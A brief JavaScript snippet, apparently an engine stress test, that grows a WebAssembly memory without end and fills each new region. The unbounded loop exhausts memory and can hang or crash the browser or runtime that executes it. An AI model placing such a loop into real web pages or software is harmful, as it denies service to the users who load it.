const memory = new WebAssembly.Memory({ initial: 1, maximum: 65536 })
for (;;) {
  const from = memory.buffer.byteLength
  memory.grow(256)
  new Uint8Array(memory.buffer, from).fill(1)
}
